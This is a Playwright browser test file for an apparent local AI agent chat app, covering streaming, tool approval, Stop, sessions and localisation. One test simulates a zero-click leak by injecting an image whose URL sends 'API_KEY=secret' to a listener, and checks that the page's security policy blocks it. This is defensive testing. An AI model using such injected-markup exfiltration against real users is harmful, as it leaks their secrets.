"""The real page in headless Chromium: streaming, live tool arguments, approval, Stop, errors, sessions, reload.

One Chromium serves the whole file; each test gets a fresh browser context (its own localStorage, so its own
owner key) against a fresh app and scripted model server.
"""

import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.ui.conftest import CHROMIUM, open_app, reload_app, wait_for_load

if not CHROMIUM.exists():
    pytest.skip(f"browser tests need Chromium at {CHROMIUM} (apt-get install chromium)", allow_module_level=True)

from playwright.sync_api import Browser, BrowserContext, Page, expect

from meowgent.ui.app import serve
from tests.scripted_ollama import Drop, Hold, Text, Turn, reply, tool_call_text

VIEWPORT = {"width": 1280, "height": 900}
WAIT_MS = 10_000

pytestmark = pytest.mark.browser
expect.set_options(timeout=WAIT_MS)


@pytest.fixture(scope="module")
def browser(chromium: Browser) -> Browser:
    """The shared Chromium fixture (tests/ui/conftest.py), under the name these tests and their importers use."""
    return chromium


def new_context(browser: Browser) -> BrowserContext:
    context = browser.new_context(viewport=VIEWPORT)
    context.set_default_timeout(WAIT_MS)
    return context


@pytest.fixture
def context(browser: Browser) -> Iterator[BrowserContext]:
    context = new_context(browser)
    try:
        yield context
    finally:
        context.close()


@pytest.fixture
def page(context: BrowserContext) -> Page:
    return context.new_page()


def send(page: Page, text: str) -> None:
    box = page.locator("#msg textarea")
    box.fill(text)
    box.press("Enter")


def chat_text(page: Page) -> str:
    return page.locator("#chat").inner_text()


def assert_stops_growing(page: Page, *, settle: float = 0.6) -> str:
    """The chat's text is the same before and after `settle` seconds; returns it."""
    before = chat_text(page)
    time.sleep(settle)  # nothing to wait *for*: the point is that nothing arrives
    after = chat_text(page)
    assert after == before, "the chat kept changing after it should have stopped"
    return after


def numbered_words(count: int) -> str:
    """`w0001 w0002 …`: a long answer whose growth and end are easy to see."""
    return " ".join(f"w{i:04d}" for i in range(1, count + 1))


def test_a_streamed_answer_appears(running_app, page):
    running_app.ollama.script(reply("Purr. Everything in your workspace looks tidy.", chunk_size=3, delay=0.01))
    open_app(page, running_app.url)
    send(page, "how are things?")
    chat = page.locator("#chat")
    expect(chat).to_contain_text("how are things?")
    expect(chat).to_contain_text("Purr. Everything in your workspace looks tidy.")
    expect(page.locator("#msg textarea")).to_have_value("")
    expect(page.locator("#stop")).to_be_hidden()
    expect(page.locator("#approve")).to_be_hidden()


def test_partial_tool_arguments_show_while_the_call_streams(running_app, page):
    lines = [f"note {i:03d}: cats sleep sixteen hours a day" for i in range(50)]  # ~2.3 KB
    content = "\n".join(lines)
    running_app.ollama.script(
        Turn(
            Text("I'll write your notes now.\n"),
            Text(tool_call_text("write_file", {"path": "notes.md", "content": content})),
            chunk_size=8,
            delay=0.05,  # ~300 lines: the whole call takes about 15 s to arrive
        )
    )
    open_app(page, running_app.url)
    started = time.perf_counter()
    send(page, "write my notes to notes.md")
    chat = page.locator("#chat")
    expect(chat).to_contain_text("Writing notes.md…")
    expect(chat).to_contain_text("note 000: cats sleep")
    expect(chat).to_contain_text("note 003")
    seen_after = time.perf_counter() - started
    # Still streaming: the end of the call has not arrived, nothing waits for approval, the answer runs.
    assert seen_after < 10, f"partial arguments appeared only after {seen_after:.1f} s"
    assert lines[-1] not in chat_text(page)
    expect(page.locator("#approve")).to_be_hidden()
    expect(page.locator("#stop")).to_be_visible()
    assert len(running_app.ollama.chat_requests) == 1
    # Don't wait 15 s for the rest: stop it, and the half-written call never runs.
    page.locator("#stop").click()
    expect(chat).to_contain_text("Stopped")
    assert running_app.ollama.wait_for_disconnects(1)
    assert not (running_app.workspace / "notes.md").exists()


def test_approve_runs_the_command_and_its_output_reaches_the_model(running_app, page):
    running_app.ollama.script(
        Turn(
            Text("Let me work that out with the shell.\n"),
            Text(tool_call_text("run_shell", {"command": "echo meow-$((6*7))"})),
        ),
        reply("The shell says meow-42, so the answer is 42."),
    )
    open_app(page, running_app.url)
    send(page, "what is 6 times 7, the shell way?")
    card = page.locator("#approval").first  # Gradio puts the group's id on two nested divs
    expect(card).to_be_visible()
    expect(card).to_contain_text("Run this command")
    expect(page.locator("#card_details textarea")).to_have_value("echo meow-$((6*7))")
    expect(page.locator("#chat")).to_contain_text("Run echo meow-$((6*7))")
    page.locator("#approve").click()
    expect(page.locator("#chat")).to_contain_text("the answer is 42")
    expect(page.locator("#approve")).to_be_hidden()
    expect(card).to_be_hidden()
    tool_message = running_app.ollama.chat_requests[-1]["messages"][-1]
    assert "meow-42" in tool_message["content"]


def test_allow_for_this_chat_says_what_it_allows_for_each_tool(running_app, page):
    """Issue 12: the button names the file, the host or the exact command; the box shows where typing applies."""
    running_app.ollama.script(
        Text(tool_call_text("write_file", {"path": "notes.md", "content": "hi"})),
        Text(tool_call_text("web_fetch", {"url": "https://example.org/page"})),
    )
    open_app(page, running_app.url)
    send(page, "write it")
    expect(page.locator("#approve_chat")).to_have_text("✅ Allow writing notes.md for this chat")
    expect(page.locator("#scope_prefix")).to_contain_text("a whole folder or a pattern")
    page.locator("#approve_chat").click()
    expect(page.locator("#approve_chat")).to_have_text("✅ Allow reading pages from example.org for this chat")
    expect(page.locator("#scope_prefix")).to_be_hidden()  # nothing to type for a fetch
    assert (running_app.workspace / "notes.md").read_text() == "hi"


def test_reject_does_not_run_and_the_reason_reaches_the_model(running_app, page):
    running_app.ollama.script(
        Turn(Text("I'll make the file.\n"), Text(tool_call_text("run_shell", {"command": "touch made.txt"}))),
        reply("Understood, I left it alone."),
    )
    open_app(page, running_app.url)
    send(page, "make a file")
    expect(page.locator("#approve")).to_be_visible()
    page.locator("#reason textarea").fill("not on a Sunday")
    page.locator("#reject").click()
    expect(page.locator("#chat")).to_contain_text("Understood, I left it alone.")
    expect(page.locator("#approve")).to_be_hidden()
    assert not (running_app.workspace / "made.txt").exists()
    tool_message = running_app.ollama.chat_requests[-1]["messages"][-1]
    assert "not on a Sunday" in tool_message["content"]


def test_stop_halts_a_slow_stream(running_app, page):
    running_app.ollama.script(
        reply(numbered_words(3_000), chunk_size=6, delay=0.01),  # ~30 s if nobody stops it
        reply("Fresh answer after the stop."),
    )
    open_app(page, running_app.url)
    send(page, "count for me")
    chat = page.locator("#chat")
    expect(chat).to_contain_text("w0040")
    page.locator("#stop").click()
    expect(chat).to_contain_text("Stopped")
    assert running_app.ollama.wait_for_disconnects(1)
    shown = assert_stops_growing(page)
    assert "w2999" not in shown
    expect(page.locator("#stop")).to_be_hidden()
    send(page, "anything else?")
    expect(chat).to_contain_text("Fresh answer after the stop.")


def test_stop_ends_an_approved_slow_command(running_app, page):
    running_app.ollama.script(
        Turn(Text("This will take a while.\n"), Text(tool_call_text("run_shell", {"command": "sleep 100"}))),
        reply("Okay, after the stop."),
    )
    open_app(page, running_app.url)
    send(page, "wait for a long time")
    page.locator("#approve").click()
    stop = page.locator("#stop")
    expect(stop).to_be_visible()
    stop.click()
    chat = page.locator("#chat")
    expect(chat).to_contain_text("stopped by the person")  # long before the command's 100 s
    expect(stop).to_be_hidden()
    send(page, "and now?")
    expect(chat).to_contain_text("Okay, after the stop.")


def test_a_dropped_stream_shows_a_plain_error_and_keeps_the_partial_answer(running_app, page):
    running_app.ollama.script(Turn(Text("partial answer"), Drop()))
    open_app(page, running_app.url)
    send(page, "tell me everything")
    chat = page.locator("#chat")
    expect(chat).to_contain_text("connection closed before it was finished")
    expect(chat).to_contain_text("partial answer")
    expect(page.locator("#stop")).to_be_hidden()
    assert "Traceback" not in page.locator("body").inner_text()
    assert "Traceback" not in page.content()


def test_two_browsers_at_once_are_independent(running_app, browser, page):
    running_app.ollama.script(
        Turn(Text("Alice, I need your approval.\n"), Text(tool_call_text("run_shell", {"command": "touch alice.txt"})))
    )
    open_app(page, running_app.url)
    send(page, "alice asks for a file")
    expect(page.locator("#approve")).to_be_visible()

    other = new_context(browser)
    try:
        bob = other.new_page()
        open_app(bob, running_app.url)
        expect(bob.locator("#approve")).to_be_hidden()
        running_app.ollama.script(reply("Hello Bob, here is your answer.", chunk_size=4, delay=0.01))
        send(bob, "bob says hi")
        expect(bob.locator("#chat")).to_contain_text("Hello Bob, here is your answer.")
        expect(bob.locator("#approve")).to_be_hidden()
        expect(page.locator("#approve")).to_be_visible()  # Alice still waits, untouched by Bob's answer
        bob_text, alice_text = chat_text(bob), chat_text(page)
    finally:
        other.close()
    assert "alice" not in bob_text.lower()
    assert "touch alice.txt" not in bob_text
    assert "Bob" not in alice_text
    assert not (running_app.workspace / "alice.txt").exists()


def test_a_reload_mid_stream_reattaches_to_the_answer(running_app, page):
    rest = threading.Event()  # the answer's end waits for the reloaded page, however long it takes to load
    running_app.ollama.script(Turn(Text(numbered_words(300)), Hold(rest), Text(" THE-END"), chunk_size=6, delay=0.01))
    open_app(page, running_app.url)
    send(page, "count slowly")
    chat = page.locator("#chat")
    expect(chat).to_contain_text("w0050")
    page.reload()  # not reload_app: the page's on_load follows the answer, so it ends with it
    expect(chat).to_contain_text("count slowly")  # the same chat came back, from its beginning
    expect(chat).to_contain_text("w0300")
    midway = chat_text(page)
    rest.set()
    expect(chat).to_contain_text("THE-END")  # sent only now: the reloaded page follows the live answer
    assert len(chat_text(page)) > len(midway)
    assert len(running_app.ollama.chat_requests) == 1  # re-attached, not asked again
    assert_stops_growing(page, settle=0.3)


def test_the_banner_says_how_to_start_ollama_and_recovers(running_app, page):
    running_app.ollama.stop()
    open_app(page, running_app.url, banner="ollama serve")
    running_app.ollama.start()
    expect(page.locator("#status")).to_contain_text("Connected", timeout=30_000)  # rechecked every 5 s
    expect(page.locator("#status")).not_to_contain_text("ollama serve")


def test_the_chat_clear_button_forgets_the_conversation(running_app, page):
    running_app.ollama.script("I'll remember pineapple.", "A fresh start.")
    open_app(page, running_app.url)
    send(page, "remember the word pineapple")
    chat = page.locator("#chat")
    expect(chat).to_contain_text("I'll remember pineapple.")
    page.locator("#chat button[aria-label='Clear']").click()
    expect(chat).not_to_contain_text("pineapple")
    send(page, "what was the word?")
    expect(chat).to_contain_text("A fresh start.")
    assert not any("pineapple" in m["content"] for m in running_app.ollama.chat_requests[-1]["messages"])
    expect(chat).not_to_contain_text("pineapple", timeout=1_000)


def test_a_model_downloads_with_a_progress_bar_and_appears_in_the_picker(running_app, page):
    running_app.ollama.pull_delay = 0.15  # slow enough to watch the bar move
    open_app(page, running_app.url)
    page.get_by_text("Get a model").click()
    page.locator("#pull_name textarea").fill("qwen3:0.6b")
    page.locator("#pull").click()
    expect(page.locator("#pull_status")).to_contain_text("Downloading part")
    expect(page.locator("#pull_status")).to_contain_text("%")
    expect(page.locator("#pull_status")).to_contain_text("qwen3:0.6b is ready")
    page.locator("#model input").click()
    expect(page.get_by_role("option", name="qwen3:0.6b")).to_be_visible()


def test_an_unknown_model_download_says_so_in_a_sentence(running_app, page):
    open_app(page, running_app.url)
    page.get_by_text("Get a model").click()
    page.locator("#pull_name textarea").fill("no-such-model")
    page.locator("#pull").click()
    expect(page.locator("#pull_status")).to_contain_text("There's no model called 'no-such-model'")


def wait_for_card(page: Page, details: str) -> None:
    expect(page.locator("#approval").first).to_be_visible()
    expect(page.locator("#card_details textarea")).to_have_value(details)


def test_a_pending_approval_comes_back_after_a_reload_and_approve_works(running_app, page):
    running_app.ollama.script(
        Text(tool_call_text("write_file", {"path": "after-reload.md", "content": "still here"})), reply("Saved it.")
    )
    open_app(page, running_app.url)
    send(page, "save a note")
    wait_for_card(page, "still here")
    reload_app(page)
    wait_for_card(page, "still here")
    page.locator("#approve").click()
    expect(page.locator("#chat")).to_contain_text("Saved it.")
    assert (running_app.workspace / "after-reload.md").read_text() == "still here"


def test_a_pending_approval_survives_a_server_restart(running_app, page):
    running_app.ollama.script(
        Text(tool_call_text("run_shell", {"command": "echo restarted > proof.txt"})), reply("Done after restart.")
    )
    open_app(page, running_app.url)
    send(page, "prove it")
    wait_for_card(page, "echo restarted > proof.txt")
    running_app.restart()
    # The old tab would reload itself once it reconnects (Gradio's Blocks: `reconnect()` then `location.reload()`),
    # racing any reload of ours; the person opens the page again in a new tab, which has no such timer.
    page.close()
    page = page.context.new_page()
    open_app(page, running_app.url)
    wait_for_card(page, "echo restarted > proof.txt")
    page.locator("#approve").click()
    expect(page.locator("#chat")).to_contain_text("Done after restart.")
    assert (running_app.workspace / "proof.txt").read_text() == "restarted\n"


def test_chats_can_be_listed_renamed_exported_and_deleted(running_app, page):
    running_app.ollama.script(reply("First answer."), reply("Second answer."))
    open_app(page, running_app.url)
    send(page, "first question")
    expect(page.locator("#chat")).to_contain_text("First answer.")
    page.locator("#new_chat").click()
    expect(page.locator("#chat")).not_to_contain_text("First answer.")
    send(page, "second question")
    expect(page.locator("#chat")).to_contain_text("Second answer.")
    chats = page.locator("#chats")
    expect(chats).to_contain_text("first question")
    expect(chats).to_contain_text("second question")

    chats.get_by_text("first question").click()  # open the older chat again
    expect(page.locator("#chat")).to_contain_text("First answer.")
    page.get_by_text("This chat", exact=True).click()
    page.locator("#title textarea").fill("Renamed chat")
    page.locator("#rename").click()
    expect(chats).to_contain_text("Renamed chat")

    page.locator("#export").click()
    for button, needle in (("#download_md", "## You"), ("#download_json", '"messages"')):
        with page.expect_download() as download:
            page.locator(button).click()
        text = Path(download.value.path()).read_text()
        assert needle in text
        assert "First answer." in text

    page.locator("#delete").click()
    page.locator("#confirm_delete").click()
    expect(chats).not_to_contain_text("Renamed chat")
    expect(page.locator("#chat")).to_contain_text("Second answer.")  # the remaining chat is shown


def test_a_chinese_browser_gets_chinese_and_can_switch_to_english(running_app, browser):
    running_app.ollama.script(
        Text("我來修改設定。\n" + tool_call_text("edit_file", {"path": "設定.txt", "old": "貓=1", "new": "貓=2"}))
    )
    (running_app.workspace / "設定.txt").write_text("貓=1\n")
    context = browser.new_context(viewport=VIEWPORT, locale="zh-TW")
    try:
        page = context.new_page()
        open_app(page, running_app.url, banner="已連上 Ollama")
        expect(page.locator("#new_chat")).to_contain_text("新對話")
        send(page, "把貓改成 2")
        card = page.locator("#approval").first
        expect(card).to_contain_text("修改檔案")
        expect(page.locator("#approve")).to_contain_text("核准")
        assert "+貓=2" in page.locator("#card_details textarea").input_value()
        page.get_by_text("English", exact=True).click()
        expect(page.locator("#approve")).to_contain_text("Approve")
        expect(card).to_contain_text("Change part of the file")
        expect(page.locator("#status")).to_contain_text("Connected")
    finally:
        context.close()


def test_the_page_works_under_its_policy_and_an_injected_image_sends_nothing(running_app, page, listener):
    """Issue 13's zero-click leak, at the last line of defence: even markup that slipped into the page loads nothing."""
    running_app.ollama.script(reply("Purr."))
    violations = []
    page.on(
        "console",
        lambda message: violations.append(message.text) if "Content Security Policy" in message.text else None,
    )
    open_app(page, running_app.url)
    send(page, "hello")
    expect(page.locator("#chat")).to_contain_text("Purr.")
    assert violations == []  # Gradio's own page needs nothing the policy refuses
    stored = page.evaluate("JSON.stringify(Object.entries(localStorage))")
    assert "run-history" not in stored
    assert "hello" not in stored  # the typed message is nowhere in the browser's storage
    blocked = page.evaluate(
        """url => new Promise(resolve => {
            document.addEventListener("securitypolicyviolation", event => resolve(event.blockedURI), {once: true});
            const image = document.createElement("img");
            image.src = url;
            document.querySelector("#chat").appendChild(image);
        })""",
        listener.url + "/leak?API_KEY=secret",
    )
    assert blocked.startswith(listener.url)
    expect(page.locator("#chat")).to_contain_text("Purr.")  # still responsive
    assert listener.requests == []


def test_the_login_page_names_us_in_the_browsers_language_and_lets_the_person_in(running_app, browser):
    running_app.demo.close()
    running_app.demo, url, _ = serve(running_app.settings, auth=("ann", "pw"))
    context = browser.new_context(viewport=VIEWPORT, locale="zh-TW")
    try:
        page = context.new_page()
        page.goto(url)
        expect(page.get_by_text("🐱 Meowgent")).to_be_visible()
        expect(page.get_by_text("請用啟動 Meowgent 的終端機")).to_be_visible()
        expect(page.get_by_role("button", name="登入")).to_be_visible()
        page.get_by_label("使用者名稱").fill("ann")
        page.get_by_label("密碼").fill("pw")
        page.get_by_role("button", name="登入").click()
        wait_for_load(page, banner="已連上 Ollama")
    finally:
        context.close()


def test_rules_saved_in_the_page_are_this_browsers_own(running_app, browser, page):
    open_app(page, running_app.url)
    page.get_by_text("Rules", exact=True).click()
    page.locator("#rules .cm-content").click()
    page.keyboard.press("Control+A")
    page.keyboard.type('[{"tool": "read_file", "action": "allow"}]')
    page.locator("#save_rules").click()
    expect(page.locator("#rules_status")).to_contain_text("Saved 1 rule(s) for your chats")
    reload_app(page)
    page.get_by_text("Rules", exact=True).click()
    expect(page.locator("#rules .cm-content")).to_have_text('[{"tool": "read_file", "action": "allow"}]')
    other = new_context(browser)
    try:
        stranger = other.new_page()
        open_app(stranger, running_app.url)
        stranger.get_by_text("Rules", exact=True).click()
        expect(stranger.locator("#rules .cm-content")).to_contain_text("git status*")  # the example, not ours
    finally:
        other.close()
